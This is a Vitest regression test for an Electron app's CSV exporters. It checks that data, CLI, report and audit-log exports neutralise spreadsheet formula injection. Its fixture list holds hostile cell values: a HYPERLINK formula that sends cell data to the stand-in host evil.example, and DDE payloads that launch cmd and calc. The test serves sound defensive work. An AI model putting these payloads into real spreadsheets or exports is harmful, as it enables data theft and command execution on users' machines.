import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { main } from '../../../electron/cli/cli';
import { csvRecords, decodeCsvBytes } from '../../../electron/core/exchange/csv';
import { newSession } from '../../../electron/core/context';
import { freshCores, mustCall, sessionWithRoles, setupAdmin, callApi } from '../../helpers/core';
import { keyFileArgs } from '../../helpers/keys';

// Issue #17 Medium 4: CSV exports wrote formulas as they were. Every CSV the app writes goes
// through one cell rule (files/csv-cell.ts); this test runs every CSV writer on hostile text.

const newCore = freshCores({ now: () => new Date('2026-03-10T02:00:00.000Z') });

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|/C calc!A0', '-2+3+cmd|/C calc!A0', '\t=1+1', '\r=1+1'];

/** Every cell of a CSV, unquoted, as a spreadsheet would read it. */
function cellsOf(bytes: Buffer, separator?: string): string[] {
  const { text } = decodeCsvBytes(bytes);
  return [...csvRecords(text, separator)].flatMap((record) => record.cells);
}

function expectNoFormula(cells: string[], writer: string): void {
  const formulas = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
  expect(formulas, writer).toEqual([]);
  // The text itself is kept, behind the apostrophe.
  expect(cells.some((cell) => cell.startsWith("'=HYPERLINK(")), writer).toBe(true);
}

describe('every CSV writer neutralises formulas', () => {
  it('data.export, the CLI export, reports.export (each table, both separators) and audit.export', async () => {
    const core = newCore();
    const admin = await setupAdmin(core);
    const staff = await sessionWithRoles(core, ['staff']);
    const head = await sessionWithRoles(core, ['head']);
    for (const [i, text] of HOSTILE.entries()) {
      await mustCall(core, staff, 'visits.save', {
        id: crypto.randomUUID(),
        person: { fullName: `Nguyễn Văn ${String.fromCharCode(65 + i)}`, cccd: `06609000${String(1000 + i)}`, phone: null, category: 'official', agency: text, neighbourhood: 'Tổ dân phố 1' },
        consent: 'yes',
        services: [
          { id: crypto.randomUUID(), serviceKey: 'digital_signature', outcome: 'completed', detail: { provider: text } },
          { id: crypto.randomUUID(), serviceKey: 'online_public_service', outcome: 'completed', detail: { procedureName: text, submitted: true } },
        ],
      });
    }
    // A failed sign-in writes what names an account into the audit log's actor column.
    await mustCall(core, admin, 'accounts.create', { id: crypto.randomUUID(), username: '-cmd', fullName: '=HYPERLINK("http://evil.example")', password: 'matkhau-12345678', roles: ['staff'] });
    await callApi(core, newSession(), 'auth.login', { username: '-cmd', password: 'sai' });

    const data = await mustCall(core, head, 'data.export', { from: '2026-03-10', to: '2026-03-10', format: 'csv' });
    expectNoFormula(cellsOf(Buffer.from(data.contentBase64, 'base64')), 'data.export');

    const out = path.join(core.dataDir, 'cli-export.csv');
    let err = '';
    const io = { out: { write: () => true } as unknown as NodeJS.WritableStream, err: { write: (s: string) => ((err += s), true) } as unknown as NodeJS.WritableStream };
    expect(await main(['export', '--db', core.ctx.dbFile, ...keyFileArgs(core.ctx.dbFile), '--from', '2026-03-10', '--to', '2026-03-10', '--out', out], io), err).toBe(0);
    expectNoFormula(cellsOf(fs.readFileSync(out)), 'cli export');

    for (const table of ['detail', 'signatures'] as const) {
      for (const separator of [';', ','] as const) {
        const file = await mustCall(core, head, 'reports.export', { from: '2026-03-10', to: '2026-03-10', format: 'csv', table, separator });
        const bytes = Buffer.from((file as { contentBase64?: string; base64?: string }).contentBase64 ?? (file as { base64?: string }).base64 ?? '', 'base64');
        expectNoFormula(cellsOf(bytes, separator), `reports.export ${table} ${separator}`);
      }
    }

    const audit = await mustCall(core, admin, 'audit.export', {});
    const auditCells = cellsOf(Buffer.from(audit.csv, 'utf8'));
    expect(auditCells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(auditCells).toContain("'-cmd");
  });
});
